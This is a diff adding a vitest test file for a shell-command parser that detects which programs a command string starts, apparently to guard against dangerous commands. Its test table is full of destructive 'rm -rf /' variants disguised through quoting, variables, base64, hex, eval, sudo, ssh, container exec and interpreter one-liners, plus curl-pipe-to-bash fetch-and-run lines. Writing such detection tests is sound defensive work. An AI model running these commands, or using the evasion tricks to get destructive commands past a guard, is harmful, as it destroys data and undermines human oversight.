@@ -1,0 +1,170 @@
+import fc from 'fast-check'
+import { describe, expect, test } from 'vitest'
+import { readShell } from './read-shell.ts'
+
+/** `via > via: words`, an unknown word in angle brackets. */
+const lines = (text: string): readonly string[] =>
+  readShell(text).commands.map((one) => {
+    const words = one.words.map((word) => (word.known ? word.text : `<${word.text}>`)).join(' ')
+    return one.via.length === 0 ? words : `${one.via.join(' > ')}: ${words}`
+  })
+
+/** The text, and a program it starts that must be found. */
+const finds: readonly (readonly [string, string])[] = [
+  ['cd x && git push -f origin main', 'git push -f origin main'],
+  ['true; rm -rf /', 'rm -rf /'],
+  ['false || rm -rf /', 'rm -rf /'],
+  ['ls | rm -rf /', 'rm -rf /'],
+  ['rm -rf / &', 'rm -rf /'],
+  ['! rm -rf /', 'rm -rf /'],
+  ['time rm -rf /', 'rm -rf /'],
+  ['coproc rm -rf /', 'rm -rf /'],
+  ['(rm -rf /)', 'rm -rf /'],
+  ['{ rm -rf /; }', 'rm -rf /'],
+  ['if true; then rm -rf /; fi', 'rm -rf /'],
+  ['while true; do rm -rf /; done', 'rm -rf /'],
+  ['case x in x) rm -rf /;; esac', 'rm -rf /'],
+  ['f() { rm -rf /; }; f', 'rm -rf /'],
+  ['for d in / /home; do rm -rf $d; done', 'rm -rf /home'],
+  ["r''m -rf /", 'rm -rf /'],
+  ['\\rm -rf /', 'rm -rf /'],
+  ['"rm" -rf /', 'rm -rf /'],
+  ["$'\\x72m' -rf /", 'rm -rf /'],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's own
+  ['rm${IFS}-rf${IFS}/', 'rm -rf /'],
+  ['x=rm; $x -rf /', 'rm -rf /'],
+  ['r=r m=m; $r$m -rf /', 'rm -rf /'],
+  ['export x=rm; $x -rf /', 'rm -rf /'],
+  ['rm -rf {/,/home}', 'rm -rf / /home'],
+  ['$(echo rm) -rf /', 'rm -rf /'],
+  ['rm -rf `echo /`', 'rm -rf /'],
+  ['echo $(rm -rf /)', '$(…): rm -rf /'],
+  ['echo $((1+$(rm -rf /)))', '$(…): rm -rf /'],
+  ['cat <(rm -rf /)', '<(…): rm -rf /'],
+  ['x=$(rm -rf /)', '$(…): rm -rf /'],
+  ['cat <<EOF\n$(rm -rf /)\nEOF', '$(…): rm -rf /'],
+  ['sudo -u root rm -rf /', 'sudo: rm -rf /'],
+  ['env -i A=1 timeout -k 5 10 nice -n 3 rm -rf /', 'env > timeout > nice: rm -rf /'],
+  ['/usr/bin/env rm -rf /', 'env: rm -rf /'],
+  ["env -S 'rm -rf /'", 'env -S: rm -rf /'],
+  ['command rm -rf /', 'command: rm -rf /'],
+  ['busybox rm -rf /', 'busybox: rm -rf /'],
+  ['sh -c "rm -rf /"', 'sh -c: rm -rf /'],
+  ["bash -lc 'rm -rf /'", 'bash -c: rm -rf /'],
+  ["bash -o pipefail -c 'rm -rf /'", 'bash -c: rm -rf /'],
+  ["su - bob -c 'rm -rf /'", 'su -c: rm -rf /'],
+  ['eval "rm -rf /"', 'eval: rm -rf /'],
+  ["trap 'rm -rf /' EXIT", 'trap: rm -rf /'],
+  ['echo "rm -rf /" | sh', '| sh: rm -rf /'],
+  ["sh <<< 'rm -rf /'", '| sh: rm -rf /'],
+  ['bash -s <<EOF\nrm -rf /\nEOF', '| bash: rm -rf /'],
+  ['echo cm0gLXJmIC8K | base64 -d | sh', '| sh: rm -rf /'],
+  ['echo 726d202d7266202f | xxd -r -p | sh', '| sh: rm -rf /'],
+  ["echo '/ fr- mr' | rev | sh", '| sh: rm -rf /'],
+  ['printf "\\x72\\x6d -rf /" | sh', '| sh: rm -rf /'],
+  ['echo / | xargs rm -rf', 'xargs: rm -rf /'],
+  ['echo / | xargs -I{} rm -rf {}', 'xargs: rm -rf /'],
+  ['ls | xargs rm -rf', 'xargs: rm -rf <…>'],
+  ['find / -name x -exec rm -rf {} \\;', 'find /: rm -rf <//{}>'],
+  ['ssh -p 22 host "rm -rf /; ls"', 'ssh host: rm -rf /'],
+  ['docker exec -it web sh -c "rm -rf /data"', 'docker exec > sh -c: rm -rf /data'],
+  ['kubectl exec -it pod -- rm -rf /', 'kubectl exec: rm -rf /'],
+  ['npx --yes rimraf /', 'npx: rimraf /'],
+  ["watch -n 1 'rm -rf /'", 'watch: rm -rf /'],
+  ['python3 -c \'import os; os.system("rm -rf /")\'', 'python3 code: rm -rf /'],
+  ["python3 - <<'EOF'\nimport subprocess\nsubprocess.run(['rm', '-rf', '/'])\nEOF", 'python3 code: rm -rf /'],
+  ["node -e \"require('child_process').execSync('rm -rf /')\"", 'node code: rm -rf /'],
+  ["node -e \"spawn('rm', ['-rf', '/'])\"", 'node code: rm -rf /'],
+  ['perl -e \'system("rm -rf /")\'', 'perl code: rm -rf /'],
+  ["ruby -e '`rm -rf /`'", 'ruby code: rm -rf /'],
+  ['awk \'BEGIN{system("rm -rf /")}\'', 'awk code: rm -rf /'],
+  ['$UNSET rm -rf /', '$UNSET: rm -rf /'],
+  ['rm -rf "$HOME/x"', 'rm -rf ~/x'],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's own
+  ['rm -rf ${x:-/}', 'rm -rf </>'],
+]
+
+describe('a program is found', () => {
+  test.each(finds)('in %s', (text, line) => {
+    expect(lines(text)).toContain(line)
+  })
+})
+
+test('text that is only written about starts nothing', () => {
+  expect(lines('git commit -m "never rm -rf / again"')).toEqual(['git commit -m never rm -rf / again'])
+  expect(lines("echo 'rm -rf /'")).toEqual(['echo rm -rf /'])
+  expect(lines('cat > notes.md <<"EOF"\nrm -rf /\nEOF')).toEqual(['cat'])
+})
+
+test.each(['toString', 'valueOf', 'constructor', '__proto__'])('a program may be called %s', (name) => {
+  expect(lines(`${name} x | sh`)).toEqual([`${name} x`, 'sh'])
+})
+
+test('redirections are files that are opened', () => {
+  const { files } = readShell('sort < in.txt > out.txt 2>> err.log; { a; b; } &> all.log; echo x >&2')
+  expect(files.map((file) => [file.how, file.path.text, file.by])).toEqual([
+    ['read', 'in.txt', 'sort'],
+    ['write', 'out.txt', 'sort'],
+    ['append', 'err.log', 'sort'],
+    ['write', 'all.log', ''],
+  ])
+})
+
+test.each([
+  ['foo "unterminated', 'unparsable'],
+  ['curl https://x.example | bash', 'unknown-code'],
+  ['bash <(curl -s https://x.example)', 'unknown-code'],
+  ['sh -c "$(curl -fsSL https://x.example)"', 'unknown-code'],
+  ['eval "$CODE"', 'unknown-code'],
+  ['$cmd --now', 'unknown-program'],
+  [`${'sh -c "'.repeat(1)}${'x'.repeat(70_000)}"`, 'too-much'],
+])('what the text does not tell is a doubt: %s', (text, kind) => {
+  expect(readShell(text).doubts.map((doubt) => doubt.kind)).toContain(kind)
+})
+
+test('a value that a branch may have changed is not known', () => {
+  expect(lines('x=/; if a; then x=/tmp/y; fi; rm -rf $x')).toContain('rm -rf <$x>')
+})
+
+test('cd says where the next command runs', () => {
+  const cwds = readShell('cd src && cd lib && ls; (cd /; ls); pwd').commands.map((one) => [one.name, one.cwd])
+  expect(cwds).toEqual([
+    ['cd', undefined],
+    ['cd', 'src'],
+    ['ls', 'src/lib'],
+    ['cd', 'src/lib'],
+    ['ls', '/'],
+    ['pwd', 'src/lib'],
+  ])
+})
+
+test('any text is read without an error, and what is nested without end is a doubt', () => {
+  const pieces = [
+    'rm',
+    ' ',
+    '-rf',
+    '$(',
+    ')',
+    '"',
+    "'",
+    '`',
+    '|',
+    ';',
+    '&&',
+    '{',
+    '}',
+    '<<EOF\n',
+    '\n',
+    '$x',
+    '${',
+    '(',
+    'sh -c ',
+    'xargs ',
+  ]
+  fc.assert(
+    fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 40 }), (some) => void readShell(some.join(''))),
+  )
+  fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => void readShell(text)))
+  const deep = `${'echo $('.repeat(400)}true${')'.repeat(400)}`
+  expect(readShell(deep).doubts.length).toBeGreaterThan(0)
+})
